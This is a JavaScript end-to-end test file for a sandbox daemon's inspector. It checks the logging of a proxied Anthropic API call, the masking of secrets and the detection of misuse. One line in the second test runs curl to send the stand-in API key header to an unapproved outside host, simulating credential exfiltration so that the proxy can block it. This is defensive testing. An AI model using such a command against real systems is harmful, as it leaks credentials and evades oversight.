// An llm.call made from inside a sandbox (curl in hive/base, through the egress proxy, to a loopback stand-in for
// api.anthropic.com that streams like the Messages API) shows in the LLM calls tab with model, tokens and cost, and
// opens on its decoded conversation; the secret it used shows, masked and bound, on the secrets page.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdirSync, readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { chromium } from "playwright-core";
import { TestDaemon, hiveCli, repoRoot } from "./daemon.mjs";
import { FakeAnthropic, HOST } from "./fake-anthropic.mjs";

const run = promisify(execFile);
const shots = join(repoRoot, "out", "inspector-screenshots");
let daemon, fake, browser, page;
const sandbox = `llm-${Math.random().toString(36).slice(2, 8)}`;
// The real key: the sandbox only ever holds a stand-in; the proxy puts this in the request to the (fake) upstream.
const realKey = `sk-ant-api03-${Array.from({ length: 40 }, () => "abcdefghijklmnopqrstuvwxyz0123456789"[Math.floor(Math.random() * 36)]).join("")}`;

before(async () => {
  mkdirSync(shots, { recursive: true });
  fake = await FakeAnthropic.start();
  daemon = await TestDaemon.start({ baseImage: true, upstream: { hosts: { [HOST]: "127.0.0.1" }, allowPrivate: ["127.0.0.0/8"], caBundle: fake.caPem } });
  browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox"] });
  page = await (await browser.newContext({ viewport: { width: 1400, height: 700 }, colorScheme: "light" })).newPage();
  const { stdout } = await run(hiveCli, ["inspector", "--no-open"], { env: { ...daemon.env(), HIVE_URL: daemon.url } });
  await page.goto(stdout.trim());
});

after(async () => {
  await browser?.close();
  await daemon?.stop();
  await fake?.close();
});

test("a streamed Anthropic call from the sandbox shows with its model, tokens, latency and estimated cost", async () => {
  await daemon.api("PUT", "/v1/secrets/anthropic", { value: realKey, provider: "anthropic" });
  await daemon.api("PUT", `/v1/sandboxes/${sandbox}`, {
    image: "hive/base", egress: [{ access: "allow", host: HOST, ports: [fake.port] }], secrets: { ANTHROPIC_API_KEY: "anthropic" },
  });
  await page.goto(`${daemon.url}/#/s/${sandbox}/llm`);
  await page.waitForSelector("#llm-calls");
  const body = JSON.stringify({
    model: "claude-sonnet-4-20250514", max_tokens: 100, stream: true,
    system: "You are a careful coding agent.",
    tools: [{ name: "read_file", input_schema: { type: "object" } }],
    messages: [
      { role: "user", content: "hi, what is in notes.md?" },
      { role: "assistant", content: [{ type: "tool_use", id: "toolu_1", name: "read_file", input: { path: "notes.md" } }] },
      { role: "user", content: [{ type: "tool_result", tool_use_id: "toolu_1", content: "ship the inspector" }] },
    ],
  });
  const r = await daemon.api("POST", `/v1/sandboxes/${sandbox}/exec`, {
    command: ["sh", "-c", `curl -sS --max-time 20 -H 'content-type: application/json' -H "x-api-key: $ANTHROPIC_API_KEY" --data "$BODY" https://${HOST}:${fake.port}/v1/messages`],
    env: { BODY: body },
    timeoutMs: 30_000,
  });
  assert.equal(r.exitCode, 0, r.stderr);
  assert.match(r.stdout, /message_stop/);
  assert.equal(fake.keys.at(-1), realKey, "the upstream got the real key");
  assert.ok(!r.stdout.includes(realKey), "the sandbox saw the stand-in, not the key");
  const row = await page.waitForSelector("#llm-calls tbody tr[data-id]", { timeout: 10_000 });
  const text = await row.textContent();
  assert.match(text, /anthropic/);
  assert.match(text, /claude-sonnet-4-20250514/);
  assert.match(text, /1,200/);
  assert.match(text, /345/);
  assert.match(text, /streamed/);
  // 1,200 input tokens at $3 and 345 output tokens at $15 per million: $0.0036 + $0.005175 = $0.0088.
  assert.match(text, /\$0\.0088/);
  assert.match(await page.textContent("#llm-totals"), /1 calls/);
  await page.screenshot({ path: join(shots, "5b-llm-call.png") });

  // Opened: the conversation, decoded from the bodies the proxy kept, the stream reassembled.
  await row.click();
  await page.waitForSelector("#llm-call .conv-turn.answer", { timeout: 10_000 });
  const conv = await page.textContent("#llm-call");
  assert.match(await page.textContent("#llm-call-head"), /claude-sonnet-4-20250514.*1,200 in \/ 345 out tokens.*\$0\.0088/);
  assert.match(await page.textContent("#llm-call .conv-turn.system"), /You are a careful coding agent\./);
  assert.match(await page.textContent("#llm-call .conv-turn.role-user"), /hi, what is in notes\.md\?/);
  assert.match(conv, /tool call read_file/);
  assert.match(conv, /tool result toolu_1/);
  assert.match(conv, /ship the inspector/);
  const answer = await page.textContent("#llm-call .conv-turn.answer");
  assert.match(answer, /Hello from the fake\./);
  assert.match(answer, /tool call read_file[\s\S]*"path": "\/workspace\/notes\.md"/);
  assert.match(conv, /stop: end_turn/);
  assert.ok(!conv.includes(realKey), "the conversation holds no real key");
  assert.match(answer, /Your key: sk-ant-api03-/, "the echoed key is the stand-in");
  await page.screenshot({ path: join(shots, "5c-llm-conversation.png") });

  // Through the API: the same bodies, and none of another sandbox's calls.
  const id = await row.getAttribute("data-id");
  const call = await daemon.api("GET", `/v1/sandboxes/${sandbox}/llm-calls/${id}`);
  assert.equal(call.call.type, "llm.call");
  assert.equal(call.request.truncated, false);
  assert.match(call.response.contentType, /text\/event-stream/);
  assert.ok(!JSON.stringify(call).includes(realKey));
  await assert.rejects(daemon.api("GET", `/v1/sandboxes/other-${sandbox}/llm-calls/${id}`), /404/);
  // Nowhere in the daemon's store (the database and its write-ahead log).
  for (const f of readdirSync(daemon.home).filter((f) => f.startsWith("hive.db"))) assert.ok(!readFileSync(join(daemon.home, f)).includes(realKey), `the real key is in ${f}`);

  // The sandboxes page adds the call's tokens and cost to the sandbox's row.
  await page.goto(`${daemon.url}/#/`);
  // The row is redrawn as counts arrive: wait on the live row, then read it afresh (not through a handle to an old one).
  await page.waitForFunction((name) => { const t = document.querySelector(`tr[data-name="${name}"]`)?.textContent ?? ""; return /1,200/.test(t) && /\$0\.0088/.test(t); }, sandbox,
    { timeout: 10_000 });
  assert.match(await page.textContent(`tr[data-name="${sandbox}"]`), /\$0\.0088/);
});

test("the secrets page lists the secret masked, the sandbox that binds it, and its activity", async () => {
  await page.click("#nav-secrets");
  const row = await page.waitForSelector('#secrets tr[data-name="anthropic"]');
  const text = await row.textContent();
  assert.ok(!text.includes(realKey));
  assert.equal(await page.textContent('#secrets tr[data-name="anthropic"] td[data-col="masked"]'), `${realKey.slice(0, 4)}****${realKey.slice(-4)}`);
  assert.match(await page.textContent('#secrets tr[data-name="anthropic"] td[data-col="bound"]'), new RegExp(`${sandbox} as ANTHROPIC_API_KEY`));
  const used = await page.waitForSelector('#secret-activity-list tr[data-kind="used"]', { timeout: 10_000 });
  assert.match(await used.textContent(), new RegExp(`${sandbox}.*POST ${HOST.replace(/\./g, "\\.")}/v1/messages`));
  // The stand-in sent to a host that is not the secret's (and that no rule allows: refused before any connection is
  // made, nothing leaves the machine) shows live as misuse.
  await daemon.api("POST", `/v1/sandboxes/${sandbox}/exec`, {
    command: ["sh", "-c", 'curl -sS --max-time 5 -o /dev/null -H "x-api-key: $ANTHROPIC_API_KEY" http://203.0.113.7/; true'], timeoutMs: 20_000,
  });
  await page.waitForSelector('#secret-activity-list tr[data-kind="misuse"]', { timeout: 10_000 });
  await page.screenshot({ path: join(shots, "7-secrets.png") });
});
